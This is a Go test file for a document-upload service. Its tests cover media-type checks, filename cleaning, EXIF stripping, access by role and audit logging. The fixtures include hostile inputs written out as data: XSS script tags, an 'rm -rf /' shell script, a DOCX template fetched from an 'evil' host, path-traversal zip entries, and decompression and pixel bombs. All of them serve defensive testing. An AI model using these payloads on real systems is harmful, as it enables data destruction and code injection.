package file_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tgpl/internal/account"
	"tgpl/internal/audit"
	"tgpl/internal/blob"
	"tgpl/internal/clock"
	"tgpl/internal/db"
	"tgpl/internal/db/dbtest"
	"tgpl/internal/fault"
	"tgpl/internal/file"
	"tgpl/internal/usecase"

	"context"
)

var now = time.Date(2022, 2, 16, 1, 0, 0, 0, time.UTC)

// room makes the room with two matters that it may ask the guard for: 7 of
// branch 1 that account 5 works on, and 8 of branch 2.
func room(t *testing.T, d *db.DB) (*file.Service, string) {
	t.Helper()
	dir := t.TempDir()
	s, err := blob.New(dir)
	if err != nil {
		t.Fatal(err)
	}
	b := usecase.NewBase(d, clock.NewManual(now), nil)
	target := func(_ context.Context, id int64) (account.Target, error) {
		switch id {
		case 7:
			return account.Target{Kind: "matter", ID: 7, BranchID: 1, Owners: []int64{5}}, nil
		case 8:
			return account.Target{Kind: "matter", ID: 8, BranchID: 2}, nil
		}
		return account.Target{}, fault.Missing()
	}
	b.Guard.Knows("matter", target)
	return file.New(b, s), dir
}

var (
	director = account.Actor{ID: 1, Role: account.Director, Via: "desk"}
	officer  = account.Actor{ID: 4, Role: account.Officer, BranchID: 1, Via: "desk"}
	lawyer   = account.Actor{ID: 5, Role: account.Lawyer, Via: "desk"}
	editor   = account.Actor{ID: 6, Role: account.Editor, Via: "desk"}
	matter7  = audit.Subject{Kind: "matter", ID: 7}
)

func picture(w, h int) image.Image {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			img.Set(x, y, color.RGBA{uint8(x), uint8(y), 90, 255})
		}
	}
	return img
}

func must[T any](v T, err error) T {
	if err != nil {
		panic(err)
	}
	return v
}

func pngOf(w, h int) []byte {
	var b bytes.Buffer
	must(0, png.Encode(&b, picture(w, h)))
	return b.Bytes()
}

func jpegOf(w, h int) []byte {
	var b bytes.Buffer
	must(0, jpeg.Encode(&b, picture(w, h), nil))
	return b.Bytes()
}

func gifOf(w, h int) []byte {
	var b bytes.Buffer
	must(0, gif.Encode(&b, picture(w, h), nil))
	return b.Bytes()
}

// hugePNG is a valid beginning of a picture that says it has side × side pixels.
func hugePNG(side uint32) []byte {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, data []byte) {
		must(0, binary.Write(&b, binary.BigEndian, uint32(len(data))))
		body := append([]byte(kind), data...)
		b.Write(body)
		must(0, binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(body)))
	}
	head := make([]byte, 13)
	binary.BigEndian.PutUint32(head, side)
	binary.BigEndian.PutUint32(head[4:], side)
	head[8], head[9] = 8, 2
	chunk("IHDR", head)
	chunk("IDAT", []byte{0x78, 0x9c, 0x03, 0, 0, 0, 0, 1})
	chunk("IEND", nil)
	return b.Bytes()
}

// smallWebPAroundHuge has an outer header of one pixel and a frame of 16383².
func smallWebPAroundHuge() []byte {
	vp8x := make([]byte, 10)
	frame := []byte{0x10, 0, 0, 0x9d, 0x01, 0x2a, 0xff, 0x3f, 0xff, 0x3f, 0, 0}
	var b bytes.Buffer
	chunk := func(kind string, data []byte) {
		b.WriteString(kind)
		must(0, binary.Write(&b, binary.LittleEndian, uint32(len(data))))
		b.Write(data)
	}
	b.WriteString("WEBP")
	chunk("VP8X", vp8x)
	chunk("VP8 ", frame)
	return append(append([]byte("RIFF"), binary.LittleEndian.AppendUint32(nil, uint32(b.Len()))...), b.Bytes()...)
}

// withOrientation puts an EXIF segment with an orientation and a place name
// into a JPEG.
func withOrientation(jpg []byte, turn uint16) []byte {
	var tiff bytes.Buffer
	tiff.WriteString("II*\x00\x08\x00\x00\x00\x01\x00")
	tiff.Write([]byte{0x12, 0x01, 3, 0, 1, 0, 0, 0, byte(turn), 0, 0, 0, 0, 0, 0, 0})
	tiff.WriteString("GPS of somebody's home")
	body := append([]byte("Exif\x00\x00"), tiff.Bytes()...)
	seg := binary.BigEndian.AppendUint16([]byte{0xff, 0xe1}, uint16(len(body)+2))
	return append(append(append([]byte{0xff, 0xd8}, seg...), body...), jpg[2:]...)
}

func zipOf(files ...string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := 0; i < len(files); i += 2 {
		w := must(z.Create(files[i]))
		must(io.WriteString(w, files[i+1]))
	}
	must(0, z.Close())
	return b.Bytes()
}

const contentTypes = `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`

func docxOf(more ...string) []byte {
	return zipOf(append([]string{"[Content_Types].xml", contentTypes, "word/document.xml", "<w:document/>"}, more...)...)
}

func bomb() []byte {
	return docxOf("word/media/image1.png", strings.Repeat("\x00", 60<<20))
}

func manyEntries() []byte {
	more := make([]string, 0, 12000)
	for i := range 6000 {
		more = append(more, fmt.Sprintf("word/media/%d", i), "")
	}
	return docxOf(more...)
}

func mp3() []byte {
	return append([]byte("ID3\x03\x00\x00\x00\x00\x00\x00"), bytes.Repeat([]byte{0xff, 0xfb, 0x90, 0x44}, 200)...)
}

// mp4 is the skeleton of a film or recording with such tracks.
func mp4(tracks ...string) []byte {
	b := []byte("\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00isommp42")
	b = append(b, bytes.Repeat([]byte("hhd "), 40_000)...)
	for _, t := range tracks {
		b = append(b, "hdlr\x00\x00\x00\x00\x00\x00\x00\x00"+t+"\x00\x00\x00\x00"...)
	}
	return b
}

func TestWhatIsLetIn(t *testing.T) {
	s, _ := room(t, dbtest.SQLite(t))
	png1 := pngOf(40, 30)
	for _, c := range []struct {
		what, name string
		body       []byte
		media, as  string // media type and name it gets
		refused    string // or the message at the field
	}{
		{what: "a PDF", name: "Đơn đề nghị.pdf", body: []byte("%PDF-1.4\n1 0 obj\n"), media: "application/pdf", as: "Đơn đề nghị.pdf"},
		{what: "a picture", name: "anh.png", body: png1, media: "image/png", as: "anh.png"},
		{what: "a photograph", name: "IMG_1.JPEG", body: jpegOf(30, 40), media: "image/jpeg", as: "IMG_1.jpeg"},
		{what: "a GIF", name: "x.gif", body: gifOf(9, 9), media: "image/gif", as: "x.gif"},
		{what: "a letter", name: "thư.docx", body: docxOf(), media: "application/vnd.openxmlformats-officedocument.wordprocessingml.document", as: "thư.docx"},
		{what: "a sheet", name: "b.xlsx", body: zipOf("[Content_Types].xml", "<Types/>", "xl/workbook.xml", "<w/>"), media: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", as: "b.xlsx"},
		{what: "an ODT", name: "c.odt", body: zipOf("mimetype", "application/vnd.oasis.opendocument.text", "content.xml", "<x/>"), media: "application/vnd.oasis.opendocument.text", as: "c.odt"},
		{what: "a text", name: "ghi chú.txt", body: []byte("Tôi ở xã Xà Phiên.\n"), media: "text/plain", as: "ghi chú.txt"},
		{what: "a recording", name: "lời kể.mp3", body: mp3(), media: "audio/mpeg", as: "lời kể.mp3"},

		{what: "a recording without a tag", name: "a.mp3", body: mp3()[10:], media: "audio/mpeg", as: "a.mp3"},
		{what: "a recording of a telephone", name: "b.m4a", body: mp4("soun"), media: "audio/mp4", as: "b.m4a"},
		{what: "a film", name: "b.m4a", body: mp4("soun", "vide"), refused: "file.kind_refused"},
		{what: "a picture called page", name: "x.html", body: png1, media: "image/png", as: "x.html.png"},
		{what: "a picture called PDF", name: "giấy.pdf", body: png1, media: "image/png", as: "giấy.png"},
		{what: "a picture called program", name: "setup.exe", body: png1, media: "image/png", as: "setup.exe.png"},
		{what: "a picture with a page behind it", name: "p.png", body: append(bytes.Clone(png1), "<script>alert(1)</script>"...), media: "image/png", as: "p.png"},

		{what: "nothing", name: "x.pdf", body: nil, refused: "file.empty"},
		{what: "a page", name: "x.pdf", body: []byte("<!DOCTYPE html><script>alert(1)</script>"), refused: "file.kind_refused"},
		{what: "a page without a head", name: "x.txt", body: []byte("Chào bạn <script src=//x></script>"), refused: "file.kind_refused"},
		{what: "a page far into a text", name: "x.txt", body: []byte(strings.Repeat("chữ ", 40_000) + "<IFRAME src=x>"), refused: "file.kind_refused"},
		{what: "an SVG", name: "x.png", body: []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), refused: "file.kind_refused"},
		{what: "an SVG with a head", name: "x.svg", body: []byte(`<?xml version="1.0"?><svg/>`), refused: "file.kind_refused"},
		{what: "a program", name: "x.pdf", body: []byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), refused: "file.kind_refused"},
		{what: "an ELF program", name: "x.jpg", body: []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"), refused: "file.kind_refused"},
		{what: "a shell script", name: "x.txt", body: []byte("#!/bin/sh\nrm -rf /\n"), refused: ""},
		{what: "a GIF that is a script", name: "x.gif", body: []byte("GIF89a=1;alert(1)//"), refused: "file.picture_large"},
		{what: "a JPEG that is a page", name: "x.jpg", body: []byte("\xff\xd8\xff\xe0<script>alert(1)</script>"), refused: "file.picture_broken"},
		{what: "half a picture", name: "x.png", body: png1[:len(png1)/2], refused: "file.picture_broken"},
		{what: "a PDF behind a page", name: "x.pdf", body: []byte("<html>%PDF-1.4"), refused: "file.kind_refused"},
		{what: "bytes", name: "x.txt", body: []byte{1, 2, 3, 0, 0, 7}, refused: "file.kind_refused"},
		{what: "a text in another encoding", name: "x.txt", body: []byte("Nguy\xe3n V\xe2n"), refused: "file.kind_refused"},
		{what: "a zip", name: "x.docx", body: zipOf("a.txt", "x"), refused: "file.kind_refused"},
		{what: "a zip with a page", name: "x.docx", body: zipOf("index.html", "<script>"), refused: "file.kind_refused"},
		{what: "half a letter", name: "x.docx", body: docxOf()[:60], refused: "file.broken"},
		{what: "a letter with macros", name: "x.docx", body: docxOf("word/vbaProject.bin", "x"), refused: "file.macro"},
		{what: "a letter that says it has macros", name: "x.docx", body: zipOf("[Content_Types].xml", `<Types ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>`, "word/document.xml", "<x/>"), refused: "file.macro"},
		{what: "a letter with a control", name: "x.docx", body: docxOf("word/activeX/activeX1.bin", "x"), refused: "file.macro"},
		{what: "a letter that fetches its template", name: "x.docx", body: docxOf("word/_rels/settings.xml.rels", `<R Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>`), refused: "file.macro"},
		{what: "an ODT with macros", name: "x.odt", body: zipOf("mimetype", "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml", "x"), refused: "file.macro"},
		{what: "a letter that leaves its folder", name: "x.docx", body: docxOf("../../etc/cron.d/x", "x"), refused: "file.broken"},
		{what: "a bomb", name: "x.docx", body: bomb(), refused: "file.bomb"},
		{what: "a letter of 6000 parts", name: "x.docx", body: manyEntries(), refused: "file.bomb"},
		{what: "a picture of 4000 million pixels", name: "x.png", body: hugePNG(65_000), refused: "file.picture_large"},
		{what: "a picture of 36 million pixels in 100 bytes", name: "x.png", body: hugePNG(6000), refused: "file.picture_large"},
		{what: "a huge picture in a small frame", name: "x.webp", body: smallWebPAroundHuge(), refused: "file.picture_large"},
	} {
		t.Run(c.what, func(t *testing.T) {
			f, err := s.Put(t.Context(), director, file.PutInput{Name: c.name, Body: bytes.NewReader(c.body), Subject: matter7})
			if c.refused == "" && c.media == "" {
				// Text that a shell would run is text to a browser: either way is safe.
				if err == nil && f.MediaType != "text/plain" {
					t.Errorf("it became %s", f.MediaType)
				}
				return
			}
			if c.refused != "" {
				ft := fault.Of(err)
				if ft == nil || ft.Fields["file"].Key != c.refused {
					t.Fatalf("got %+v, %v; want %s", f, err, c.refused)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if f.MediaType != c.media || f.Name != c.as {
				t.Errorf("got %s %q, want %s %q", f.MediaType, f.Name, c.media, c.as)
			}
		})
	}
}

// endless gives more bytes than anybody may send.
type endless struct{ sent int64 }

func (e *endless) Read(p []byte) (int, error) {
	if e.sent == 0 {
		copy(p, "%PDF-1.4\n")
	}
	e.sent += int64(len(p))
	return len(p), nil
}

func TestTooLargeIsRefusedWithoutReadingItAll(t *testing.T) {
	s, dir := room(t, dbtest.SQLite(t))
	e := &endless{}
	_, err := s.Put(t.Context(), director, file.PutInput{Name: "x.pdf", Body: e, Subject: matter7})
	if f := fault.Of(err); f == nil || f.Fields["file"].Key != "file.too_large" {
		t.Fatalf("got %v", err)
	}
	if e.sent > file.MaxSize+1<<20 {
		t.Errorf("%d bytes were read", e.sent)
	}
	left, err := filepath.Glob(filepath.Join(dir, "tmp", "*"))
	if err != nil || len(left) != 0 {
		t.Errorf("left behind: %v, %v", left, err)
	}
}

func TestCleanName(t *testing.T) {
	s, _ := room(t, dbtest.SQLite(t))
	for name, want := range map[string]string{
		"../../etc/passwd":           "passwd.pdf",
		`C:\Users\An\Giấy khai sinh`: "Giấy khai sinh.pdf",
		"":                           "tep.pdf",
		"...":                        "tep.pdf",
		".pdf":                       "tep.pdf",
		"a\x00b\nc.pdf":              "ab c.pdf",
		"ảnh\u202egnp.pdf":           "ảnhgnp.pdf",
		"a<b>\"c|d?.pdf":             "a-b--c-d-.pdf",
		"hồ sơ 2022.06":              "hồ sơ 2022.06.pdf",
		"x.PDF":                      "x.pdf",
		"a.docx":                     "a.pdf",
		"\xff\xfe.pdf":               "tep.pdf",
		strings.Repeat("dài ", 100):  strings.TrimSpace(strings.Repeat("dài ", 30)) + ".pdf",
		"e\u0302\u0301.pdf":          "ế.pdf",
	} {
		f, err := s.Put(t.Context(), director, file.PutInput{Name: name, Body: strings.NewReader("%PDF-1.4"), Subject: matter7})
		if err != nil {
			t.Errorf("%q: %v", name, err)
		} else if f.Name != want {
			t.Errorf("%q became %q, want %q", name, f.Name, want)
		}
	}
}

func TestThumbnailsCarryNothingAndStandUpright(t *testing.T) {
	s, _ := room(t, dbtest.SQLite(t))
	body := withOrientation(jpegOf(800, 400), 6)
	f, err := s.Put(t.Context(), director, file.PutInput{Name: "x.jpg", Body: bytes.NewReader(body), Subject: matter7})
	if err != nil {
		t.Fatal(err)
	}
	if f.Width != 400 || f.Height != 800 {
		t.Errorf("it is shown %d × %d", f.Width, f.Height)
	}
	for what, open := range map[string]func(context.Context, account.Actor, int64) (file.File, io.ReadSeekCloser, error){
		"thumb": s.OpenThumb, "view": s.OpenView,
	} {
		_, r, err := open(t.Context(), director, f.ID)
		if err != nil {
			t.Fatal(err)
		}
		raw, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(raw, []byte("GPS")) || bytes.Contains(raw, []byte("Exif")) {
			t.Errorf("the %s still carries what the camera wrote", what)
		}
		img, err := jpeg.Decode(bytes.NewReader(raw))
		if err != nil {
			t.Fatal(err)
		}
		if b := img.Bounds(); b.Dx()*2 != b.Dy() || what == "thumb" && b.Dy() != 320 || what == "view" && b.Dy() != 800 {
			t.Errorf("the %s is %v", what, b)
		}
		if err := r.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

func TestSameContentTwiceLiesThereOnce(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s, _ := room(t, d)
		var ids []int64
		for range 2 {
			f, err := s.Put(t.Context(), director, file.PutInput{Name: "a.pdf", Body: strings.NewReader("%PDF-1.4 x"), Subject: matter7})
			if err != nil {
				t.Fatal(err)
			}
			ids = append(ids, f.ID)
		}
		if ids[0] == ids[1] {
			t.Error("two files of a record are one")
		}
		all, err := s.List(t.Context(), director, matter7)
		if err != nil || len(all) != 2 || all[0].SHA256 != all[1].SHA256 {
			t.Errorf("list: %+v, %v", all, err)
		}
		if err := s.Verify(t.Context(), func(f file.Finding) { t.Errorf("found %+v", f) }); err != nil {
			t.Fatal(err)
		}
	})
}

func TestWhoMayReadAndAdd(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s, _ := room(t, d)
		put := func(a account.Actor, matter int64) (file.File, error) {
			return s.Put(t.Context(), a, file.PutInput{Name: "a.pdf", Body: strings.NewReader("%PDF-1.4"), Subject: audit.Subject{Kind: "matter", ID: matter}})
		}
		seven, err := put(director, 7)
		if err != nil {
			t.Fatal(err)
		}
		if seven.BranchID != 1 {
			t.Errorf("branch %d", seven.BranchID)
		}
		eight, err := put(director, 8)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range []struct {
			who  account.Actor
			f    file.File
			may  bool
			what string
		}{
			{director, eight, true, "the director, everywhere"},
			{officer, seven, true, "an officer in the own branch"},
			{officer, eight, false, "an officer in another branch"},
			{lawyer, seven, true, "the lawyer of the matter"},
			{lawyer, eight, false, "a lawyer in another's matter"},
			{editor, seven, false, "an editor, who may read pictures of articles only"},
			{account.PublicActor("192.0.2.1", "r"), seven, false, "the public"},
		} {
			_, body, err := s.Open(t.Context(), c.who, c.f.ID)
			if (err == nil) != c.may {
				t.Errorf("read, %s: %v", c.what, err)
			}
			if err == nil {
				_ = body.Close()
			}
			if _, err := put(c.who, c.f.SubjectID); (err == nil) != c.may {
				t.Errorf("add, %s: %v", c.what, err)
			}
		}
		if _, err := put(director, 99); !fault.Is(err, fault.NotFound) {
			t.Errorf("a matter that is not there: %v", err)
		}
		if _, err := s.Put(t.Context(), director, file.PutInput{Name: "a", Body: strings.NewReader("%PDF-"), Subject: audit.Subject{Kind: "audit_entry", ID: 1}}); !fault.Is(err, fault.NotFound) {
			t.Errorf("a kind that holds no files: %v", err)
		}
		if _, _, err := s.Open(t.Context(), director, 12345); !fault.Is(err, fault.NotFound) {
			t.Errorf("a file that is not there: %v", err)
		}
		if _, _, err := s.OpenThumb(t.Context(), director, seven.ID); !fault.Is(err, fault.NotFound) {
			t.Errorf("the small picture of a PDF: %v", err)
		}
	})
}

func TestVerifyFindsDamage(t *testing.T) {
	s, dir := room(t, dbtest.SQLite(t))
	put := func(text string) file.File {
		f, err := s.Put(t.Context(), director, file.PutInput{Name: "a.pdf", Body: strings.NewReader("%PDF-1.4 " + text), Subject: matter7})
		if err != nil {
			t.Fatal(err)
		}
		return f
	}
	path := func(f file.File) string {
		return filepath.Join(dir, f.SHA256[:2], f.SHA256[2:4], f.SHA256)
	}
	gone, changed, fine := put("gone"), put("changed"), put("fine")
	if _, err := s.Receive(t.Context(), "draft.pdf", strings.NewReader("%PDF-1.4 draft")); err != nil {
		t.Fatal(err)
	}
	if err := errors.Join(os.Remove(path(gone)), os.Chmod(path(changed), 0o600), os.WriteFile(path(changed), []byte("%PDF-1.4 forged!"), 0o600)); err != nil {
		t.Fatal(err)
	}
	got := map[string]int64{}
	if err := s.Verify(t.Context(), func(f file.Finding) { got[f.Kind] = f.FileID }); err != nil {
		t.Fatal(err)
	}
	want := map[string]int64{file.Missing: gone.ID, file.Damaged: changed.ID, file.Unreferenced: 0}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("found %v, want %v", got, want)
	}

	// A day later the sweep takes the unfinished upload, and nothing else.
	past := time.Now().Add(-25 * time.Hour)
	err := filepath.WalkDir(dir, func(p string, e os.DirEntry, err error) error {
		if err == nil && !e.IsDir() {
			err = os.Chtimes(p, past, past)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if n, err := s.Sweep(t.Context()); err != nil || n != 1 {
		t.Errorf("swept %d, %v", n, err)
	}
	if _, err := os.Stat(path(fine)); err != nil {
		t.Error(err)
	}
}

func TestReadingAboutSensitiveClientsLeavesATrace(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s, _ := room(t, d)
		guard := func(id int64) file.File {
			f, err := s.Attach(t.Context(), director, must(s.Receive(t.Context(), "a.pdf", strings.NewReader("%PDF-1.4"))), audit.Subject{Kind: "client", ID: id})
			if err != nil {
				t.Fatal(err)
			}
			return f
		}
		s.Guard.Knows("client", func(_ context.Context, id int64) (account.Target, error) {
			return account.Target{Kind: "client", ID: id, BranchID: 1}, nil
		})
		makeClients(t, d)
		for _, c := range []struct {
			id    int64
			trace int
		}{{1, 1}, {2, 0}, {3, 0}} {
			f := guard(c.id)
			_, body, err := s.Open(t.Context(), director, f.ID)
			if err != nil {
				t.Fatal(err)
			}
			_ = body.Close()
			rows, err := s.Audit.List(t.Context(), audit.Filter{SubjectKind: "client", SubjectID: c.id, Kind: audit.Read})
			if err != nil || len(rows) != c.trace {
				t.Errorf("client %d: %d traces, %v", c.id, len(rows), err)
			}
		}
	})
}
